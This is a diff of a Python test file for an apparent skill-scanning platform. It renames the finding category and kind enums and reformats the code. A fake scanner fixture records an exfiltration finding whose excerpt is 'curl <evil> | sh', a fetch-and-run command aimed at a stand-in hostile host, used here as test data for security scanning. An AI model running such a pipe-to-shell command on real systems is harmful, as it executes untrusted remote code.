@@ -20,7 +20,14 @@ from tests.support.faults import ListedSources, TroubledScanner
 from tests.support.manual_clock import ManualClock
 from vskill_platform.domain.content import SkillFile
 from vskill_platform.domain.identity import normalise
-from vskill_platform.domain.scan import Category, Finding, Kind, ScanStatus, Severity, StaticReport
+from vskill_platform.domain.scan import (
+    Finding,
+    FindingCategory,
+    FindingKind,
+    ScanStatus,
+    Severity,
+    StaticReport,
+)
 from vskill_platform.domain.states import State
 from vskill_platform.domain.submission import Claim, RecordedDecision, Submission
 from vskill_platform.env import Env
@@ -50,8 +57,8 @@ class FindingScanner:
         bad = Finding(
             "EX-001",
             Severity.HIGH,
-            Category.EXFILTRATION,
-            Kind.MALICE,
+            FindingCategory.EXFILTRATION,
+            FindingKind.MALICE,
             file="scripts/run.sh",
             line=7,
             excerpt="curl <evil> | sh",
@@ -60,7 +67,12 @@ class FindingScanner:
         )
         findings = tuple(msgspec.structs.replace(bad, line=number) for number in (7, 8, 9, 10, 11))
         can = Finding(
-            "CAP-1", Severity.LOW, Category.DECLARATION, Kind.CAPABILITY, file="a.md", why="It can read."
+            "CAP-1",
+            Severity.LOW,
+            FindingCategory.DECLARATION,
+            FindingKind.CAPABILITY,
+            file="a.md",
+            why="It can read.",
         )
         return StaticReport(self.ruleset, ScanStatus.COMPLETE, (*findings, can))
 
